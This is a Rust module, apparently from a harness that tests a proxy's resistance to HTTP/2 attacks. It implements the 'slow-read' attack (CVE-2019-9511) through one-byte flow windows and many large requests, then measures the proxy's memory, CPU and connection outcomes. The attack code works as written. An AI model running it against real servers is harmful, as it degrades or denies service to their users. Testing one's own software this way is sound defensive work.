use std::{sync::atomic::Ordering, time::Duration};

use futures_util::FutureExt;
use tokio::time;

use super::{
    Attack, Finding, How, MIB,
    floods::{noticed, windows},
    growth,
    h2::{
        END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, Peer, State, WINDOW_UPDATE, frame, head,
    },
    observer::{Observer, WINDOW},
    scene::Setup,
};

pub(super) const ATTACKS: &[Attack] = &[Attack {
    name: "slow-read",
    title: "HTTP/2: a window of one byte",
    words: "20 connections with windows of one byte ask for 100 answers of 512 KiB each, and \
            widen each window by one byte a second (CVE-2019-9511).",
    flags: &[],
    how: How::Own(|setup| run(setup).boxed()),
}];

const CONNECTIONS: usize = 20;
const STREAMS: u32 = 100;

/// What is kept of an answer that isn't taken: `max_send_buf_size`, and what has
/// been read of the server's connection and doesn't fit there.
const EACH: u64 = 192 << 10;

async fn run(setup: &Setup) -> anyhow::Result<Vec<Finding>> {
    let scene = setup.start().await?;
    let observer = Observer::start(scene.address)?;
    let idle = observer.windows(2).await;
    let mut asks = Vec::new();
    let mut widens = Vec::new();
    for stream in (0..STREAMS).map(|number| 2 * number + 1) {
        let request = head("GET", "/down/524288");
        frame(&mut asks, HEADERS, END_HEADERS | END_STREAM, stream, &request);
        frame(&mut widens, WINDOW_UPDATE, 0, stream, &1u32.to_be_bytes());
    }
    let cpu = scene.proxy.cpu();
    let mut peers = Vec::new();
    for number in 0..CONNECTIONS {
        let mut peer = Peer::connect(scene.address, number, &[(INITIAL_WINDOW, 1)]).await?;
        peer.send(&asks).await?;
        peers.push(peer);
    }
    observer.take();
    let time = WINDOW * u32::try_from(windows(setup))?;
    let mut during = Vec::new();
    for second in 1..=time.as_secs() {
        time::sleep(Duration::from_secs(1)).await;
        for peer in &mut peers {
            // It may have been closed.
            let _ = peer.send(&widens).await;
        }
        if second % WINDOW.as_secs() == 0 {
            during.push(observer.take());
        }
    }
    let cpu = Duration::from_nanos(scene.proxy.cpu() - cpu);
    let open = peers.iter().filter(|peer| peer.state() == State::Open).count();
    let answers: u64 = peers.iter().map(|peer| peer.heard.answers.load(Ordering::Relaxed)).sum();
    let answers_due = u64::from(STREAMS) * CONNECTIONS as u64;
    let grown = scene.growth()?;
    let mut findings = vec![
        Finding::new("answers that have begun", format!("{answers} of {answers_due}")),
        Finding::new("connections that stayed open", format!("{open} of {CONNECTIONS}")),
        Finding::new("processor time, others' requests included", super::seconds(cpu)),
        growth("memory, at the most", grown, answers_due * EACH / MIB * MIB),
        Finding::new("for each answer", format!("{} KiB", (grown / answers_due) >> 10)),
    ];
    findings.extend(noticed(&idle, &during));
    Ok(findings)
}
